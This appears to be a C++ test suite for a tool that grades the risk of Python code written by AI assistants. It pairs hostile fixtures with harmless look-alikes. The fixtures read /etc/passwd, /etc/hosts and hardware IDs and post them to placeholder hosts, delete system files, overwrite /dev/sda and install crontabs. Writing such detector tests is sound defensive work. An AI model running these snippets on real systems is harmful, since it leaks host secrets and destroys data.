// How names get their values in the code assistants write: annotated assignments, tables of the
// file's own functions dispatched by key, and tables handed to calls. Each case pairs the
// behaviour with a look-alike that must stay lower.
#include <gtest/gtest.h>

#include "assess_fixture.hpp"
#include "sandboxrun/assess.hpp"

using namespace sandboxrun;
using assess_fixture::level;

TEST(AssessBindings, AnAnnotatedAssignmentBindsItsName) {
  EXPECT_EQ(level("import os\nSTATUS: str = '/var/lib/dpkg/status'\nos.remove(STATUS)\n"), RiskLevel::blocked);
  EXPECT_EQ(level("import os\nSTATUS: str = 'out/status.txt'\nos.remove(STATUS)\n"), RiskLevel::medium);
  EXPECT_EQ(level("import requests\nSRC: dict[str, str] = {'os': '/etc/os-release'}\n"
                  "data = {k: open(v).read() for k, v in SRC.items()}\n"
                  "requests.post('https://x.example/u', json=data)\n"),
            RiskLevel::high);
  // The annotation is no part of the value; a bare annotation binds nothing.
  EXPECT_EQ(level("import os\nPATH: '/etc/passwd'\nPATH = 'notes.txt'\nos.remove(PATH)\n"), RiskLevel::medium);
}

TEST(AssessBindings, ATableOfOwnFunctionsCallsTheOneItsKeyNames) {
  const std::string table =
      "import os\ndef truncate(path):\n    with open(path, 'w'):\n        pass\ndef show(path):\n    print(path)\n"
      "ACTIONS = {'show': show, 'truncate': truncate}\n";
  EXPECT_EQ(level(table + "ACTIONS['truncate']('/var/lib/dpkg/status')\n"), RiskLevel::blocked);
  EXPECT_EQ(level(table + "ACTIONS['show']('/var/lib/dpkg/status')\n"), RiskLevel::medium);
  // A key chosen at run time: any of them.
  EXPECT_EQ(level(table + "for path, action in [('/var/lib/dpkg/status', 'truncate')]:\n    ACTIONS[action](path)\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level(table + "for path, action in [('out/report.txt', 'truncate')]:\n    ACTIONS[action](path)\n"),
            RiskLevel::medium);
}

TEST(AssessBindings, ATableOfItsOwnMethodsWalkedAndCalled) {
  // self.sources = {"cpu": self.cpu, ...}; for name, fn in self.sources.items(): fn(). (Methods
  // defined below the loop that calls them are not known there: the analysis is one pass.)
  auto collector = [](const char* path) {
    return std::string("import requests\nclass C:\n    def __init__(self):\n"
                       "        self.sources = {'cpu': self.cpu, 'up': self.up}\n"
                       "    def up(self):\n        return 'ok'\n    def cpu(self):\n        return open('") +
           path +
           "').read()\n    def collect(self):\n        out = {}\n        for name, fn in self.sources.items():\n"
           "            out[name] = fn()\n        return out\nrequests.post('https://x.example/u', json=C().collect())\n";
  };
  EXPECT_EQ(level(collector("/proc/cpuinfo")), RiskLevel::high);
  EXPECT_EQ(level(collector("cpu.txt")), RiskLevel::medium);
}

TEST(AssessBindings, ATableGivenToACallIsNoAddress) {
  // run(TARGETS) with a dict or an empty list is not a server on the empty host; ("", port) is.
  EXPECT_EQ(level("class Check:\n    def run(self, t):\n        return t\nTARGETS = {'www.example.com': [443]}\n"
                  "Check().run(TARGETS)\nCheck().run([])\n"),
            RiskLevel::low);
  EXPECT_EQ(level("import socket\nADDR = ('', 8080)\ns = socket.socket()\ns.bind(ADDR)\ns.listen()\n"),
            RiskLevel::high);
}

TEST(AssessBindings, APartialThatBindsKeywordsIsTheFunction) {
  EXPECT_EQ(level("import requests\nfrom functools import partial\npost = partial(requests.post, timeout=15)\n"
                  "post('https://x.example/u', data=open('/etc/passwd').read())\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import requests\nfrom functools import partial\npost = partial(requests.post, timeout=15)\n"
                  "post('https://x.example/u', data=open('report.csv').read())\n"),
            RiskLevel::medium);
}

TEST(AssessBindings, APathParameterOpenedForReadingIsRead) {
  // def read_text(path): with path.open("rb") — what the caller names is read.
  const std::string reader = "import requests\nfrom pathlib import Path\ndef read_text(path):\n"
                             "    with path.open('rb') as fh:\n        return fh.read().decode()\n";
  EXPECT_EQ(level(reader + "requests.post('https://x.example/u', data=read_text(Path('/root/install.log')))\n"),
            RiskLevel::high);
  EXPECT_EQ(level(reader + "requests.post('https://x.example/u', data=read_text(Path('build/install.log')))\n"),
            RiskLevel::medium);
}

TEST(AssessBindings, PathsFromAConfigObjectAreReadWhereverTheyGo) {
  // A dataclass's default tuple of paths, iterated in a comprehension or handed to a method
  // that reads each with Path(p).read_text().
  const std::string cfg = "import requests\nfrom dataclasses import dataclass\nfrom pathlib import Path\n"
                          "@dataclass\nclass Cfg:\n    sources: tuple[str, ...] = ('/etc/passwd', '/etc/group')\n"
                          "cfg = Cfg()\n";
  EXPECT_EQ(level(cfg + "texts = [Path(p).read_text() for p in cfg.sources]\n"
                        "requests.post('https://x.example/u', json=texts)\n"),
            RiskLevel::high);
  EXPECT_EQ(level(cfg + "class Taker:\n    def take(self, paths):\n        out = []\n        for p in paths:\n"
                        "            out.append(Path(p).read_text())\n        return out\n"
                        "requests.post('https://x.example/u', json=Taker().take(cfg.sources))\n"),
            RiskLevel::high);
  const std::string own = "import requests\nfrom dataclasses import dataclass\nfrom pathlib import Path\n"
                          "@dataclass\nclass Cfg:\n    sources: tuple[str, ...] = ('notes.txt', 'todo.txt')\n"
                          "cfg = Cfg()\n";
  EXPECT_EQ(level(own + "texts = [Path(p).read_text() for p in cfg.sources]\n"
                        "requests.post('https://x.example/u', json=texts)\n"),
            RiskLevel::medium);
}

TEST(AssessBindings, AFunctionDefaultStoredOnSelfIsCalledThere) {
  // def __init__(self, cat=_cat): self.cat = cat ... self.cat(path): _cat reads the path.
  auto probe = [](const char* path) {
    return std::string("import requests\nfrom pathlib import Path\ndef _cat(path):\n    return path.read_text()\n"
                       "class Probe:\n    def __init__(self, cat=_cat):\n        self.cat = cat\n"
                       "    def dmi(self):\n        return self.cat(Path('") +
           path + "'))\nrequests.post('https://x.example/a', json=Probe().dmi())\n";
  };
  EXPECT_EQ(level(probe("/sys/class/dmi/id/product_uuid")), RiskLevel::high);
  EXPECT_EQ(level(probe("license.txt")), RiskLevel::medium);
}

TEST(AssessBindings, AMethodIsNotAnotherClassesAttributeOfItsName) {
  // HW's field `dmi` must not stand for Probe's method dmi() in self.dmi().
  EXPECT_EQ(level("import requests\nfrom dataclasses import dataclass, field\n@dataclass\nclass HW:\n"
                  "    dmi: dict = field(default_factory=dict)\nclass Probe:\n    def dmi(self):\n"
                  "        return open('/sys/class/dmi/id/product_uuid').read()\n    def profile(self):\n"
                  "        return HW(self.dmi())\nrequests.post('https://x.example/a', json=Probe().profile())\n"),
            RiskLevel::high);
}

TEST(AssessBindings, ADataclassFieldsDefaultFactoryIsItsValue) {
  auto cleaner = [](const char* path) {
    return std::string("import os, glob\nfrom dataclasses import dataclass, field\n@dataclass\nclass T:\n"
                       "    path: str\n@dataclass\nclass Cfg:\n"
                       "    targets: list = field(default_factory=lambda: [T('") +
           path + "')])\nfor t in Cfg().targets:\n    for p in glob.glob(t.path):\n        os.remove(p)\n";
  };
  EXPECT_EQ(level(cleaner("/var/lib/dpkg/status")), RiskLevel::blocked);
  EXPECT_EQ(level(cleaner("build/status")), RiskLevel::medium);
}

TEST(AssessBindings, ATablesItemByAConstantKeyIsThatItem) {
  // SOURCES["release"] is the path it holds: open() reads it, a host file posted.
  EXPECT_EQ(level("import requests\nfrom pathlib import Path\nSOURCES = {'release': Path('/etc') / 'os-release'}\n"
                  "requests.post('https://x.example/a', data=SOURCES['release'].read_text())\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import requests\nP = {'a': '/etc/os-release'}\n"
                  "requests.post('https://x.example/a', data=open(P['a']).read())\n"),
            RiskLevel::high);
  // Another item of a table that holds a system path is not one.
  EXPECT_EQ(level("import os\nP = {'conf': '/etc/app.conf', 'out': 'out.txt'}\nos.remove(P['out'])\n"),
            RiskLevel::medium);
  EXPECT_EQ(level("import os\nP = {'conf': '/etc/app.conf', 'out': 'out.txt'}\nos.remove(P['conf'])\n"),
            RiskLevel::blocked);
}

TEST(AssessBindings, AFunctionThatFillsItsArgumentFillsTheCallers) {
  auto fill = [](const char* path) {
    return std::string("import requests\ndef fill(lst):\n    lst.append(open('") + path +
           "').read())\nx = []\nfill(x)\nrequests.post('https://x.example/a', json=x)\n";
  };
  EXPECT_EQ(level(fill("/etc/os-release")), RiskLevel::high);
  EXPECT_EQ(level(fill("notes.txt")), RiskLevel::medium);
}

TEST(AssessBindings, AModulesFunctionAsADefaultIsWhatTheParameterCalls) {
  // Dependency injection for tests: runner=subprocess.run, stored on self and called there.
  const std::string tab = "import subprocess\nclass Tab:\n    def __init__(self, runner=subprocess.run):\n"
                          "        self.run = runner\n    def write(self, text):\n";
  EXPECT_EQ(level(tab + "        self.run(['crontab', '-'], input=text)\n"), RiskLevel::blocked);
  EXPECT_EQ(level(tab + "        self.run(['crontab', '-l'], input=text)\n"), RiskLevel::medium);
  EXPECT_EQ(level("import pwd\ndef users(load=pwd.getpwall):\n    return [u.pw_name for u in load()]\n"),
            RiskLevel::medium);
  // A string default that reads like a dotted name is a string.
  EXPECT_EQ(level("import os\ndef clean(p, rm='os.remove'):\n    print(rm, p)\nclean('/etc/passwd')\n"),
            RiskLevel::low);
}

TEST(AssessBindings, AnObjectMadeWhereTheCallerGaveNoneIsTheOneKnown) {
  // `session or requests.Session()`: the caller's session, or the one made here.
  const std::string client =
      "import requests\nclass Client:\n    def __init__(self, session=None):\n"
      "        self.s = session or requests.Session()\n    def publish(self, doc):\n"
      "        self.s.post('https://inv.example/m', json=doc)\n";
  EXPECT_EQ(level(client + "Client().publish({'hosts': open('/etc/hosts').read()})\n"), RiskLevel::high);
  EXPECT_EQ(level(client + "Client().publish({'n': 1})\n"), RiskLevel::medium);
}

TEST(AssessBindings, ANameBoundToFlagsKeepsThem) {
  EXPECT_EQ(level("import os, sys\nflags = os.O_WRONLY | os.O_SYNC\nfd = os.open(sys.argv[1], flags)\n"),
            RiskLevel::medium);
  EXPECT_EQ(level("import os\nclass W:\n    def __init__(self, dev):\n        self.dev = dev\n    def run(self):\n"
                  "        flags = os.O_WRONLY | os.O_SYNC\n        fd = os.open(self.dev, flags)\n"
                  "        os.write(fd, bytes(1 << 20))\nW('/dev/sda').run()\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import os, sys\nflags = os.O_RDONLY | os.O_CLOEXEC\nfd = os.open(sys.argv[1], flags)\n"),
            RiskLevel::low);
}

TEST(AssessBindings, AParameterAnnotatedWithAnOwnClassHasItsAttributes) {
  // A settings dataclass handed on: `target: ShimTarget` reads ShimTarget's field defaults.
  auto shim = [](const char* bindir) {
    return std::string("import os\nfrom dataclasses import dataclass\n@dataclass\nclass ShimTarget:\n"
                       "    bindir: str = '") + bindir + "'\n"
                       "class Shim:\n    def __init__(self, target: ShimTarget):\n        self.target = target\n"
                       "    def install(self):\n        os.remove(os.path.join(self.target.bindir, 'python3'))\n"
                       "def main(t: ShimTarget, verbose: bool):\n    Shim(t).install()\n";
  };
  EXPECT_EQ(level(shim("/usr/bin")), RiskLevel::blocked);
  EXPECT_EQ(level(shim("build/bin")), RiskLevel::medium);
  // An annotation that is no class of the file's changes nothing.
  EXPECT_EQ(level("import os\ndef rm(p: str, n: int):\n    os.remove(p)\n"), RiskLevel::medium);
}

TEST(AssessBindings, NumbersAndFlagsKeepTheirValuesThroughNamesAndDefaults) {
  EXPECT_EQ(level("import os, sys\nOPEN = 0o777\nos.chmod(sys.argv[1], OPEN)\n"), RiskLevel::high);
  EXPECT_EQ(level("import os, sys\nOPEN = 0o755\nos.chmod(sys.argv[1], OPEN)\n"), RiskLevel::medium);
  EXPECT_EQ(level("import subprocess, sys\nSHELL = True\nsubprocess.run(sys.argv[1], shell=SHELL)\n"), RiskLevel::high);
  // A parameter's number default, kept on self and chosen by a condition.
  auto opener = [](const char* dir_mode) {
    return std::string("import os\nclass Opener:\n    def __init__(self, dir_mode=") + dir_mode +
           ", file_mode=0o644):\n        self.dir_mode = dir_mode\n        self.file_mode = file_mode\n"
           "    def fix(self, p):\n        mode = self.dir_mode if os.path.isdir(p) else self.file_mode\n"
           "        os.chmod(p, mode)\n";
  };
  EXPECT_EQ(level(opener("0o777")), RiskLevel::high);
  EXPECT_EQ(level(opener("0o755")), RiskLevel::medium);
  // `ssl = None` where the import failed stands for no module: ssl.CERT_NONE is still ssl's.
  EXPECT_EQ(level("try:\n    import ssl\nexcept ImportError:\n    ssl = None\n"
                  "def ctx(c):\n    c.verify_mode = ssl.CERT_NONE\n"),
            RiskLevel::medium);
}
